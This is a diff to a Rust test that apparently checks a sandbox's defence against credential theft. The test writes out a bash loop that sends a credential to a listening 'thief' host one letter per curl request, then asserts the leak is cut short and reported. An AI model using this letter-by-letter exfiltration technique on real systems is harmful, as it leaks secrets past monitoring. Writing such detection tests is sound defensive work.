@@ -158,11 +158,13 @@ lab_tests! {
         for credential in [Credential::new(), Credential::with_the_last_letter_twice()] {
             let letters: Vec<&str> = credential.text().split_inclusive(|_: char| true).collect();
             let letters = letters.join(" ");
-            let script = format!("for l in {letters}; do curl -sS \"$URL/x?d=$l\"; done; curl -sS $URL/fine");
+            // Not one that begins with the letter that is missing: it would be the last piece.
+            let fine = if credential.text().ends_with('f') { "good" } else { "fine" };
+            let script = format!("for l in {letters}; do curl -sS \"$URL/x?d=$l\"; done; curl -sS $URL/{fine}");
             let outcome = confined(lab, Identity::Own).run(&bash(&script));
             let sent = String::from_utf8_lossy(&thief.take()).into_owned();
             assert_eq!(sent.matches("GET /x").count(), credential.text().len() - 1, "{sent}");
-            assert!(sent.contains("GET /fine"), "the rest goes on: {sent} {outcome}");
+            assert!(sent.contains(&format!("GET /{fine}")), "the rest goes on: {sent} {outcome}");
             assert_told(&outcome, "letters");
         }
     }
